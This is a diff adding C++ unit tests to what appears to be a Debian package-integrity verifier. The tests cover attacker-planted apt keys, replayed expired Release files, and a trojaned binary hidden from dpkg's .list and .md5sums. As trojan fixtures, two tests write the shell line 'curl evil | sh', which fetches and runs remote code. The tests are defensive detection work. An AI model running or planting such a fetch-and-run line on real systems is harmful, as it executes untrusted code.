@@ -8,9 +8,11 @@
 
 #include <fstream>
 #include <map>
+#include <set>
 #include <sstream>
 
 #include "catena/core/digest.hpp"
+#include "catena/core/time.hpp"
 #include "support/dpkg_root.hpp"
 #include "support/matchers.hpp"
 #include "support/run.hpp"
@@ -20,6 +22,7 @@ namespace {
 
 using test::HasError;
 using test::IsOk;
+using ::testing::HasSubstr;
 
 std::string read_text(const std::string& path) {
   std::ifstream in(path, std::ios::binary);
@@ -90,7 +93,8 @@ class AnchorTest : public ::testing::Test {
     write_repository();
   }
 
-  void write_repository(const std::string& packages_override = "") {
+  void write_repository(const std::string& packages_override = "",
+                        const std::string& release_fields = "") {
     const std::string deb = read_text(deb_);
     const std::string packages = packages_override.empty()
                                      ? "Package: tool\nVersion: 1.0\nArchitecture: amd64\n"
@@ -100,9 +104,9 @@ class AnchorTest : public ::testing::Test {
                                      : packages_override;
     const std::string lists = "var/lib/apt/lists/";
     root_.dir().write(lists + "example.org_debian_dists_test_main_binary-amd64_Packages", packages);
-    const std::string release = "Origin: test\nSuite: test\nCodename: test\nSHA256:\n " +
-                                test::sha256_hex(packages) + " " + std::to_string(packages.size()) +
-                                " main/binary-amd64/Packages\n";
+    const std::string release = "Origin: test\nSuite: test\nCodename: test\n" + release_fields +
+                                "SHA256:\n " + test::sha256_hex(packages) + " " +
+                                std::to_string(packages.size()) + " main/binary-amd64/Packages\n";
     build_.write("Release", release);
     ASSERT_EQ(SigningKey::get().sign(build_ / "Release",
                                      root_ / (lists + "example.org_debian_dists_test_InRelease")),
@@ -151,6 +155,119 @@ TEST_F(AnchorTest, ATamperedMd5sumsDoesNotHideAModifiedFile) {
   EXPECT_EQ(evidence(f, "anchor"), "archive");
   EXPECT_EQ(evidence(f, "expected_sha256"), test::sha256_hex(files_[0].second));
   EXPECT_EQ(evidence(f, "sha256"), test::sha256_hex(trojan));
+}
+
+// The attacker's key in the inspected root's trusted.gpg.d, and their repository in its lists:
+// the root's keyrings are never trust roots, so the repository is not believed, the key is
+// reported, and the package is still checked locally.
+TEST_F(AnchorTest, TheInspectedRootsOwnKeysAreNotTrusted) {
+  if (::access("/usr/share/keyrings/debian-archive-keyring.gpg", R_OK) != 0) {
+    CATENA_SKIP_ENVIRONMENT() << "no Debian archive keyring on this machine";
+  }
+  root_.dir().write("etc/apt/trusted.gpg.d/evil.gpg", read_text(SigningKey::get().keyring()));
+  root_.dir().write("etc/apt/sources.list.d/evil.sources",
+                    "Types: deb\nURIs: http://example.org/debian\nSuites: test\nComponents: "
+                    "main\nSigned-By: /etc/apt/keyrings/evil.gpg\n");
+  root_.dir().write("etc/apt/keyrings/evil.gpg", read_text(SigningKey::get().keyring()));
+  auto report = verify_against_archive({.location = {.root = root_.path()}, .packages = {"tool"}});
+  ASSERT_THAT(report, IsOk());
+  std::map<std::string, int> rules;
+  std::set<std::string> trusted_by;
+  for (const Finding& f : report->findings) {
+    ++rules[f.rule];
+    if (f.rule == "PKG_APT_FOREIGN_KEY") {
+      trusted_by.insert(evidence(f, "trusted_by"));
+      EXPECT_EQ(evidence(f, "uid"), "catena test archive <archive@example.org>");
+      EXPECT_EQ(evidence(f, "fingerprint").size(), 40u);
+    }
+  }
+  EXPECT_EQ(rules["ARCHIVE_SIGNATURE_INVALID"], 1);
+  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);
+  EXPECT_EQ(trusted_by,
+            (std::set<std::string>{"/etc/apt/trusted.gpg.d",
+                                   "Signed-By in /etc/apt/sources.list.d/evil.sources"}));
+  // Given as a trust root by the one who runs catena, the same key is believed and not reported.
+  const VerifyReport trusted = anchor();
+  for (const Finding& f : trusted.findings) EXPECT_NE(f.rule, "PKG_APT_FOREIGN_KEY");
+  EXPECT_EQ(trusted.packages, 1u);
+}
+
+// A replayed archive state: a Release past its Valid-Until is not believed (as apt refuses
+// it), unless judged at the time an image was taken; an old Date is reported when a maximum
+// age is asked for.
+TEST_F(AnchorTest, ReplayedReleasesAreNotBelieved) {
+  write_repository("",
+                   "Date: Mon, 01 Jan 2024 00:00:00 UTC\n"
+                   "Valid-Until: Mon, 08 Jan 2024 00:00:00 UTC\n");
+  const VerifyReport expired = anchor();
+  std::map<std::string, int> rules;
+  for (const Finding& f : expired.findings) ++rules[f.rule];
+  EXPECT_EQ(rules["ARCHIVE_RELEASE_EXPIRED"], 1);
+  EXPECT_EQ(rules["PKG_NOT_ANCHORED"], 1);
+  EXPECT_EQ(expired.packages, 0u);
+  // Judged on the day the image was taken, the same Release holds.
+  auto snapshot = verify_against_archive({.location = {.root = root_.path()},
+                                          .packages = {"tool"},
+                                          .keyrings = {SigningKey::get().keyring()},
+                                          .at_ns = *parse_rfc3339("2024-01-02T00:00:00Z")});
+  ASSERT_THAT(snapshot, IsOk());
+  EXPECT_TRUE(snapshot->findings.empty()) << snapshot->findings[0].rule;
+  EXPECT_EQ(snapshot->packages, 1u);
+  // Without Valid-Until, an old Date is reported under a maximum age, and still used.
+  write_repository("", "Date: Mon, 01 Jan 2024 00:00:00 UTC\n");
+  auto stale = verify_against_archive({.location = {.root = root_.path()},
+                                       .packages = {"tool"},
+                                       .keyrings = {SigningKey::get().keyring()},
+                                       .max_release_age_days = 30});
+  ASSERT_THAT(stale, IsOk());
+  ASSERT_EQ(stale->findings.size(), 1u);
+  EXPECT_EQ(stale->findings[0].rule, "ARCHIVE_RELEASE_STALE");
+  EXPECT_EQ(stale->packages, 1u);
+}
+
+// A package whose .deb is gone cannot be anchored: it is still checked against the local
+// database, so the anchor never finds less than the plain check.
+TEST_F(AnchorTest, AnUnanchoredPackageIsStillCheckedLocally) {
+  root_.dir().write("usr/bin/tool", "#!/bin/sh\ncurl evil | sh\n", 0755);
+  ASSERT_EQ(::unlink(deb_.c_str()), 0);
+  const VerifyReport report = anchor();
+  std::set<std::string> rules;
+  for (const Finding& f : report.findings) {
+    rules.insert(f.rule);
+    if (f.rule == "PKG_FILE_MODIFIED") {
+      EXPECT_EQ(f.path, "/usr/bin/tool");
+      EXPECT_THAT(evidence(f, "checked_against"), HasSubstr("local dpkg database"));
+    }
+  }
+  EXPECT_EQ(rules, (std::set<std::string>{"PKG_NOT_ANCHORED", "PKG_FILE_MODIFIED"}));
+}
+
+// The attacker trojans a file and deletes it from the package's .list and .md5sums: the .deb
+// still installs it, so it is found, checked, and the edited list reported.
+TEST_F(AnchorTest, AFileHiddenFromTheListIsFoundThroughTheDeb) {
+  const std::string trojan = "#!/bin/sh\ncurl evil | sh\n";
+  root_.dir().write("usr/bin/tool", trojan, 0755);
+  for (const char* kind : {"list", "md5sums"}) {
+    const std::string path = root_ / (std::string("var/lib/dpkg/info/tool.") + kind);
+    std::string text = read_text(path);
+    std::string kept;
+    for (size_t at = 0; at < text.size();) {
+      const size_t end = std::min(text.find('\n', at), text.size());
+      const std::string line = text.substr(at, end - at);
+      if (line.find("usr/bin/tool") == std::string::npos) kept += line + "\n";
+      at = end + 1;
+    }
+    root_.dir().write(std::string("var/lib/dpkg/info/tool.") + kind, kept);
+  }
+  const VerifyReport report = anchor();
+  std::set<std::string> rules;
+  for (const Finding& f : report.findings) {
+    rules.insert(f.rule);
+    if (f.rule != "PKG_NOT_ANCHORED") {
+      EXPECT_EQ(f.path, "/usr/bin/tool") << f.rule;
+    }
+  }
+  EXPECT_EQ(rules, (std::set<std::string>{"PKG_DATABASE_TAMPERED", "PKG_FILE_MODIFIED"}));
 }
 
 TEST_F(AnchorTest, AnIndexThatDiffersFromTheSignedReleaseIsNotTrusted) {
@@ -249,6 +366,13 @@ TEST(AnchorThisMachine, InstalledPackagesMatchWhatDebianSigned) {
   auto report = verify_against_archive({.packages = packages, .deb_dirs = {cache + "/debs"}});
   ASSERT_THAT(report, IsOk());
   for (const Finding& f : report->findings) {
+    // What this machine's apt trusts beyond Debian's keys (a cloud image's package mirror) is
+    // a fact of the machine, reported and not trusted; it must name the key.
+    if (f.rule == "PKG_APT_FOREIGN_KEY") {
+      EXPECT_EQ(evidence(f, "fingerprint").size(), 40u) << f.path;
+      EXPECT_FALSE(evidence(f, "trusted_by").empty()) << f.path;
+      continue;
+    }
     ADD_FAILURE() << f.rule << " " << f.path << " " << evidence(f, "package") << " "
                   << evidence(f, "reason");
   }
